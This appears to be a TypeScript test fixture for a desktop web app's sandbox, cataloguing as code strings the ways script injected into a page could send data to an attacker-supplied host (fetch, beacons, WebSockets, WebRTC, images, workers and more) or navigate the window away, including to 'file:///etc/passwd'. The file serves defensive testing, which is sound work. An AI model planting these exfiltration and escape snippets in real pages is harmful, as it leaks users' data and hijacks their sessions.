/**
 * What script that got into the page might try, as functions in text: they run in the page, given the addresses of
 * {@link import('./attacker.ts').Addresses}. Whether one throws is of no matter, only what it reaches.
 */

const waiting = (ms: number) => `await new Promise((over) => setTimeout(over, ${ms}));`;
const element = (name: string, fields: string) =>
  `async ({ http }) => { document.body.append(Object.assign(document.createElement('${name}'), ${fields})); ${waiting(100)} }`;

/** Ways to carry something out of the PC. */
export const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: `({ http }) => fetch(http, { mode: 'no-cors' })`,
  XMLHttpRequest: `({ http }) => { const asked = new XMLHttpRequest(); asked.open('POST', http); asked.send('x'); }`,
  EventSource: `({ http }) => void new EventSource(http)`,
  WebSocket: `({ ws }) => void new WebSocket(ws)`,
  sendBeacon: `({ http }) => navigator.sendBeacon(http, 'x')`,
  WebTransport: `({ http }) => new WebTransport(http.replace('http:', 'https:')).ready`,
  'an image': element('img', '{ src: http }'),
  'a script': element('script', '{ src: http }'),
  'a style sheet': element('link', `{ rel: 'stylesheet', href: http }`),
  'a style': `({ http }) => { document.body.style.backgroundImage = 'url(' + http + ')'; document.body.offsetWidth; }`,
  'a font': `({ http }) => new FontFace('x', 'url(' + http + ')').load()`,
  'a film': element('video', '{ src: http, preload: "auto" }'),
  'a frame': element('iframe', '{ src: http }'),
  'a frame in a frame': element('iframe', `{ srcdoc: '<iframe src="' + http + '"></iframe><img src="' + http + '">' }`),
  'an embedded object': element('object', '{ data: http }'),
  'a webview': `({ http }) => { const view = document.createElement('webview'); view.setAttribute('src', http); document.body.append(view); }`,
  'a prefetch': element('link', `{ rel: 'prefetch', href: http }`),
  'a preload': element('link', `{ rel: 'preload', as: 'image', href: http }`),
  'a preconnect': element('link', `{ rel: 'preconnect', href: http }`),
  'a manifest': element('link', `{ rel: 'manifest', href: http }`),
  speculation: `({ http }) => { const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [http] }] }); document.head.append(rules); }`,
  'the ping of a link': `({ http }) => { const link = Object.assign(document.createElement('a'), { href: '#x', ping: http }); document.body.append(link); link.click(); link.remove(); }`,
  'an import': `({ http }) => import(http)`,
  'a worker': `({ http }) => void new Worker(URL.createObjectURL(new Blob(['fetch("' + http + '")'], { type: 'text/javascript' })))`,
  'a service worker': `({ http }) => navigator.serviceWorker.register('/opened/x.js')`,
  WebRTC: `async ({ ice }) => {
    const connection = new RTCPeerConnection({ iceServers: ice.map((urls) => ({ urls, username: 'u', credential: 'c' })) });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    ${waiting(400)}
    connection.close();
  }`,
};

/** Ways to have the window show something else than our page. */
export const ESCAPES: Readonly<Record<string, string>> = {
  'its address': `({ http }) => location.assign(http)`,
  'a link': `({ http }) => Object.assign(document.createElement('a'), { href: http }).click()`,
  'a link to a new window': `({ http }) => Object.assign(document.createElement('a'), { href: http, target: '_blank' }).click()`,
  'a form': `({ http }) => { const form = Object.assign(document.createElement('form'), { action: http, method: 'post' }); document.body.append(form); form.submit(); form.remove(); }`,
  'a refresh': `async ({ http }) => { const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + http }); document.head.append(refresh); ${waiting(200)} refresh.remove(); }`,
  'a base': `async ({ http }) => { const base = Object.assign(document.createElement('base'), { href: http }); document.head.prepend(base); await fetch('x').catch(() => {}); base.remove(); }`,
  'the top of a frame': `async ({ http }) => { const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<a target="_top" href="' + http + '">x</a>' }); document.body.append(frame); ${waiting(200)} frame.contentDocument?.querySelector('a')?.click(); ${waiting(100)} frame.remove(); }`,
  'a javascript: address': `() => { location.href = "javascript:document.write('<h1 id=escaped>out</h1>')"; }`,
  'a data: address': `() => location.assign('data:text/html,<h1>out</h1>')`,
  'a file: address': `() => location.assign('file:///etc/passwd')`,
  'another host of our scheme': `() => location.assign('app://elsewhere/')`,
};
